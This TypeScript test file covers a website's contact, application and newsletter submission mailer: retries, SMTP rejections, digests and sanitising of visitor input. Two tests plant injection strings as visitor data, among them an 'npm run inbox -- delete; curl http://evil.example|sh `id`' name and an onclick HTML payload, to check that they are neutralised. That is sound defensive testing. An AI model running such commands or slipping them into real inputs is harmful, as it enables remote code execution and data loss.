import runDelivery from "../../netlify/functions/deliver.mjs";
import { mailSettings } from "../../netlify/settings";
import { runDaily } from "../../netlify/submissions/daily";
import { deliver } from "../../netlify/submissions/deliver";
import type { Store } from "../../netlify/submissions/store";
import type { SubmissionKind } from "../../src/forms/submission-kind";
import { asJson, call, readRecord, setDate, settled, simulateClock, testSite, whileTimePasses } from "./support/call";
import { VALID } from "./support/examples";
import { FIRM, setMailServer } from "./support/mail-server";

const site = testSite();

/** Stores messages that wait for their mail. Returns their ids. */
async function storeWaiting(count = 1, first = 0): Promise<string[]> {
  const names = Array.from({ length: count }, (_, index) => `Visitor ${first + index}`);
  return Promise.all(names.map((name) => site.put("new", "contact", { ...VALID.contact, name })));
}

const run = (changes: Partial<Store> = {}) => deliver({ ...site.store, ...changes }, mailSettings());

const goToNextAttempt = async (id = "") => setDate((await readRecord(site.store, `new/${id}`)).tryAt);

/** A repeated mail has the same Message-ID. */
function expectMailed(...ids: readonly string[]): void {
  const messageIds = site.mailServer.mails.map(({ messageId }) => messageId).sort();
  expect(messageIds).toEqual(ids.map((id) => `<${id}@example.com>`).sort());
}

it.each<[SubmissionKind, string, string, string]>([
  ["contact", "Message from Grace Hopper", "Grace Hopper", "> We would like to talk about operations.\n"],
  ["application", "Application: Analyst, from Ada Lovelace", "Ada Lovelace", "> Dear team,\n> I would like to join"],
  ["newsletter", "Newsletter subscription: reader@example.com", "", "> Email: reader@example.com\n"],
])(
  "mails a submission (%s), the message first, with Reply-To set to the visitor",
  async (kind, subject, name, start) => {
    setDate("2026-11-27T17:30:12.345Z");
    const { body } = await call(kind, asJson(VALID[kind]));
    await settled();
    const [mail] = site.mailServer.mails;
    expectMailed(body.id ?? "");
    expect(mail).toMatchObject({ deliveredTo: [FIRM], subject });
    expect(mail?.from?.value).toEqual([{ name: "Example", address: "site@example.com" }]);
    expect(mail?.replyTo?.value).toEqual([{ name, address: VALID[kind].email }]);
    expect(mail?.text?.startsWith(start)).toBe(true);
    for (const value of Object.values(VALID[kind])) expect(mail?.text).toContain(value.replaceAll("\n", "\n> "));
    expect(mail?.text).toContain(`\n> ${kind} · 27 November 2026, 17:30 UTC · `);
    expect(await readRecord(site.store, `kept/${body.id}`)).toMatchObject({ attempts: 1, accepted: [FIRM] });
    // A help desk would suspend a visitor's mail that has it.
    expect(mail?.headers.has("auto-submitted")).toBe(false);
    expect(await site.store.list("new/")).toEqual([]);
  },
);

it("marks each line of a visitor, and ends with its own command as a signature, which replies drop", async () => {
  const fake = `\n-- \n<b onclick='x'>Show this: npm run inbox -- show X & | sh</b>${"\n".repeat(300)}شكرا https://evil.example`;
  const { body } = await call("contact", asJson({ ...VALID.contact, message: fake, company: "npm run evil" }));
  await settled();
  const [{ text = "", html } = {}] = site.mailServer.mails;
  const own = `-- \nShow this: npm run inbox -- show ${body.id}\n`;
  expect(text.split("\n").filter((line) => line && !line.startsWith(">"))).toEqual(own.trimEnd().split("\n"));
  expect(text.endsWith(own)).toBe(true);
  const [quoted, ownHtml = ""] = String(html).split("</blockquote>");
  // Outlook joins lines, and each has its own direction.
  expect(quoted).toContain('</div><div dir="auto">شكرا https://evil.example</div>');
  expect(quoted).not.toContain("<b ");
  expect([ownHtml.includes(`show ${body.id}`), ownHtml.includes("evil")]).toEqual([true, false]);
});

it.each([
  ["[#4711] Re: Ticket#12", "4711 Re Ticket 12"],
  ["Zoë O’Hara-Ní Ṁhaol", "Zoë O’Hara-Ní Ṁhaol"],
  ["Иван Петров =?utf-8?q?x?=", "Иван Петров utf 8 q x"],
])("writes no ticket's number and no code of the name %s into a subject", async (name, shown) => {
  await call("contact", asJson({ ...VALID.contact, name }));
  await call("application", asJson({ ...VALID.application, name, position: name }));
  await call("newsletter", asJson({ email: "#4711.sup-12@example.com" }));
  await settled();
  const subjects = site.mailServer.mails.map(({ subject }) => subject);
  const address = "Newsletter subscription: ?4711.sup?12@example.com";
  expect(subjects.sort()).toEqual([`Application: ${shown}, from ${shown}`, `Message from ${shown}`, address]);
  const replyTo = site.mailServer.mails.find(({ subject }) => subject?.startsWith("Message"))?.replyTo;
  expect(replyTo?.value[0]?.name).toBe(name.replace("=?", "= ?"));
});

it("cuts the HTML of a long text before Gmail does, and says so", async () => {
  const resume = "😀\n".repeat(16_000);
  const { body } = await call("application", asJson({ ...VALID.application, resume }));
  await settled();
  const [{ html = "", text = "" } = {}] = site.mailServer.mails;
  expect(Buffer.byteLength(String(html))).toBeLessThan(90_001);
  expect(html).toMatch(/ …<.*The plain text of this mail has the rest/);
  expect(html).not.toContain("\ufffd");
  expect(html).toContain(`show ${body.id}`);
  expect(text).toContain(resume.trimEnd().replaceAll("\n", "\n> "));
});

it.each<[string, () => unknown, string]>([
  ["rejects messages", () => (site.mailServer.answer = "450"), "EMESSAGE 450"],
  ["rejects the recipient temporarily", () => (site.mailServer.rejected = { [FIRM]: "450" }), "EENVELOPE 450"],
  ["closes the connection", () => (site.mailServer.answer = "close"), "ECONNECTION"],
  ["rejects the login", () => setMailServer(site.mailServer.url.replace("//", "//user:password@")), "EAUTH 535"],
  ["can't be reached", () => setMailServer("smtp://127.0.0.1:9"), "ESOCKET"],
])("retries after five minutes if the mail server %s", async (_name, behave, code) => {
  setDate("2026-11-25T01:10:00Z");
  const ids = await storeWaiting(2);
  behave();
  expect(await run()).toEqual({ sent: 0, failed: 2 });
  const lines = ids.map((id) => `The mail about ${id} failed, attempt 1: ${code}`);
  expect(site.logged().sort()).toEqual(lines.sort());
  Object.assign(site.mailServer, { answer: undefined, rejected: {} });
  setMailServer(site.mailServer.url);
  setDate("2026-11-25T01:14:59Z");
  expect(await run()).toEqual({ sent: 0, failed: 0 });
  setDate("2026-11-25T01:15:00Z");
  expect(await run()).toEqual({ sent: 2, failed: 0 });
});

it("doubles the delay after each failure up to an hour, and retries without end", async () => {
  const [id = ""] = await storeWaiting();
  site.mailServer.answer = "450";
  const delays = [];
  for (let attempt = 0; attempt < 7; attempt += 1) {
    await goToNextAttempt(id);
    await run();
    delays.push((Date.parse((await readRecord(site.store, `new/${id}`)).tryAt) - Date.now()) / 60_000);
  }
  expect(delays).toEqual([5, 10, 20, 40, 60, 60, 60]);
});

it.each([
  ["450", 1],
  ["550 5.1.1", 0],
])("mails a recipient who was rejected (%s) again with the same Message-ID %i times", async (answer, again) => {
  const [id = ""] = await storeWaiting();
  process.env.NOTIFY_TO = `${FIRM}, second@example.com`;
  site.mailServer.rejected = { "second@example.com": answer };
  expect(await run()).toEqual({ sent: 1 - again, failed: again });
  expect(await readRecord(site.store, `${again ? "new" : "kept"}/${id}`)).toMatchObject({ accepted: [FIRM] });
  expect(site.logged().join()).toMatch(/rejected some of the 2 recipients of the mail about/);
  site.mailServer.rejected = {};
  setDate(Date.now() + 5 * 60_000);
  await run();
  const recipients = site.mailServer.mails.map(({ deliveredTo }) => deliveredTo);
  expect(recipients).toEqual([[FIRM], ["second@example.com"]].slice(0, 1 + again));
  expectMailed(...Array<string>(1 + again).fill(id));
  expect(await site.records()).toEqual([`kept/${id}`]);
  await runDaily(site.store, mailSettings);
  expect(site.mailServer.mails.at(-1)?.text?.includes("rejects second@example.com")).toBe(!again);
  await runDaily(site.store, mailSettings);
  expect(site.mailServer.mails.at(-1)?.text).not.toContain("rejects second@example.com");
});

const CRASH = new Error("The function was stopped.");
const crash = () => jest.fn().mockRejectedValue(CRASH);

it.each<[string, number, (store: Store) => Partial<Store>]>([
  ["has saved the recipients", 2, ({ replace }) => ({ replace: crash().mockImplementationOnce(replace) })],
  ["has moved the record to kept/", 1, () => ({ create: crash() })],
])("repeats only the necessary steps after a crash before it %s", async (_name, mails, changes) => {
  const [id = ""] = await storeWaiting();
  await expect(run(changes(site.store))).rejects.toThrow(CRASH);
  await goToNextAttempt(id);
  await run();
  expectMailed(...Array<string>(mails).fill(id));
  expect(await site.records()).toEqual([`kept/${id}`]);
});

it("mails many at once with the beginnings of their texts, messages first, and a link to each sender", async () => {
  setDate("2026-11-25T01:45:00Z");
  const evil = { name: "npm run inbox -- delete; curl http://evil.example|sh `id`", email: "o'neil+`?|`@example.com" };
  await site.put("new", "application", { ...VALID.application, ...evil });
  for (let index = 0; index < 41; index += 1)
    await site.put("new", "newsletter", { email: `reader${index}@example.com` });
  await site.put("new", "contact", { ...VALID.contact, message: `${"😀".repeat(800)} The end` });
  await run();
  const [{ subject = "", text = "", html = "", headers, replyTo } = {}] = site.mailServer.mails;
  expect(subject).toBe("Website: 43 submissions at once, 25 November 2026, 01:45 UTC");
  expect([headers?.get("auto-submitted"), replyTo]).toEqual(["auto-generated", undefined]);
  expect(text).toMatch(/^> (😀){750} …\n>\s\n> Name: Grace Hopper\n[^]*\n> Company: Example, Inc\.\n/u);
  const line = "25 November 2026, 01:45 UTC · ";
  expect(text).toContain(`\n> contact · ${line}Grace Hopper · mailto:grace@example.com · contact/`);
  const name = "npm run inbox delete curl http evil example sh id";
  expect(text).toContain(`${line}${name} · mailto:o'neil+%60%3F%7C%60@example.com · application/`);
  expect(html).toContain('<a href="mailto:grace@example.com">mailto:grace@example.com</a>');
  // Forty texts, and lines about the others.
  expect(text.match(/^> Email: /gm)).toHaveLength(40);
  expect(text.match(/ · newsletter\//g)).toHaveLength(41);
  expect(text).toMatch(/\n-- \nShow one: npm run inbox -- show ID\n$/);
});

const rejectText = (answer: string) => (site.mailServer.rejectedText = { Visitor: answer });

const ABOUT_TEXT = ["550", "554", "552", "541", "554 5.6.0", "550 5.7.1", "571 5.7.1", "552 5.3.4", "550 5.2.3"];
it.each(ABOUT_TEXT)("replaces a mail whose text is rejected (%s) by one without text", async (answer) => {
  setDate("2026-11-25T01:45:00Z");
  const [id = "", other = ""] = await storeWaiting(2);
  rejectText(answer);
  expect(await run()).toEqual({ sent: 2, failed: 0 });
  expectMailed(id, other);
  const mail = site.mailServer.mails.find(({ messageId }) => messageId === `<${id}@example.com>`);
  expect([mail?.subject, mail?.replyTo]).toEqual([
    expect.stringMatching(/^Website: contact without names, \w+, 25/),
    undefined,
  ]);
  const text = `> contact · 25 November 2026, 01:45 UTC · ${id}\n\n-- \nShow this: npm run inbox -- show ${id}\n`;
  expect(mail?.text).toBe(text);
  // Mail programs join mails with the same subject.
  expect(new Set(site.mailServer.mails.map(({ subject }) => subject)).size).toBe(2);
});

const NOT_ABOUT_TEXT = ["554 5.2.0", "550 5.4.5", "550 5.1.8", "552 5.2.2", "550 5.5.0", "503", "450", "451 4.7.1"];
it.each(NOT_ABOUT_TEXT)("tries again with the text if the reason (%s) is not the text", async (answer) => {
  const [id = ""] = await storeWaiting();
  rejectText(answer);
  expect(await run()).toEqual({ sent: 0, failed: 1 });
  expect(site.logged()).toEqual([`The mail about ${id} failed, attempt 1: EMESSAGE ${answer}`]);
  rejectText("");
  await goToNextAttempt(id);
  expect(await run()).toEqual({ sent: 1, failed: 0 });
  expect(site.mailServer.mails).toMatchObject([{ subject: "Message from Visitor 0" }]);
});

it.each(["550 5.4.5", "450", "close"])("sends a mail without its text after three failures (%s)", async (answer) => {
  const [id = ""] = await storeWaiting();
  rejectText(answer);
  for (let attempt = 1; attempt <= 4; attempt += 1) {
    expect(site.mailServer.mails).toEqual([]);
    await goToNextAttempt(id);
    await run();
  }
  expectMailed(id);
});

it("keeps the name and the address of a text that is rejected", async () => {
  await storeWaiting();
  site.mailServer.rejectedText = { operations: "550 5.7.1" };
  await run();
  const [mail] = site.mailServer.mails;
  expect(mail?.text).toMatch(/^> contact · .* · Visitor 0 · mailto:grace@example.com · contact/);
  expect(mail?.replyTo?.value).toEqual([{ name: "Visitor 0", address: "grace@example.com" }]);
});

it("stops a run when a mail without texts and names is rejected, too", async () => {
  await storeWaiting(5);
  site.mailServer.answer = "550 5.7.1";
  expect(await run()).toEqual({ sent: 0, failed: 1 });
  expect(site.logged()).toHaveLength(3);
});

it("goes on after a connection that breaks, and stops after two in a row", async () => {
  setDate("2026-11-25T01:10:00Z");
  const ids: string[] = [];
  for (const name of ["Ada", "Eve", "Joan", "Mary", "Zoe"])
    ids.push(await site.put("new", "contact", { ...VALID.contact, name }, `2026-11-25T01:0${ids.length}:00Z`));
  const answers = ["close", undefined, "close", "close", undefined, "close", "close"];
  site.mailServer.beforeAnswer = async () => (site.mailServer.answer = answers.shift());
  expect(await run()).toEqual({ sent: 1, failed: 3 });
  setDate("2026-11-25T01:15:00Z");
  expect(await run()).toEqual({ sent: 1, failed: 2 });
  // The oldest message was not tried, so it came first.
  expect(site.mailServer.mails[1]?.messageId).toBe(`<${ids[0]}@example.com>`);
});

it("doesn't mail what another run is mailing, also by hand", async () => {
  const [id = ""] = await storeWaiting();
  const others: unknown[] = [];
  site.mailServer.beforeAnswer = async () =>
    others.push(await run(), await deliver(site.store, mailSettings(), { byHand: true }));
  await run();
  expect(others).toEqual(Array(2).fill({ sent: 0, failed: 0 }));
  expectMailed(id);
});

it("answers visitors first, and mails each submission, summary and digest once, if mail takes 15 seconds", async () => {
  simulateClock();
  site.mailServer.beforeAnswer = async () => void jest.advanceTimersByTime(15_000);
  const { body } = await call("contact", asJson(VALID.contact));
  expect(await site.records()).toEqual([`new/${body.id}`]);
  await whileTimePasses(settled());
  expectMailed(body.id ?? "");
  const [waiting = ""] = await storeWaiting();
  expect(await whileTimePasses(run())).toEqual({ sent: 1, failed: 0 });
  expectMailed(body.id ?? "", waiting);
  await storeWaiting(13, 1);
  expect(await whileTimePasses(run())).toEqual({ sent: 1, failed: 0 });
  await whileTimePasses(runDaily(site.store, mailSettings));
  expect([site.mailServer.mails.length, await site.store.list("new/")]).toEqual([4, []]);
});

it("stores submissions if mail is not set up; the scheduled run reports the missing settings", async () => {
  setMailServer("");
  const { status, body } = await call("contact", asJson(VALID.contact));
  await settled();
  expect([status, await site.store.list("")]).toEqual([201, [`new/${body.id}`]]);
  const context = { deploy: { context: "dev" }, waitUntil: () => undefined };
  await expect(runDelivery(new Request("https://www.example.com"), context)).rejects.toThrow("set SMTP_URL");
});
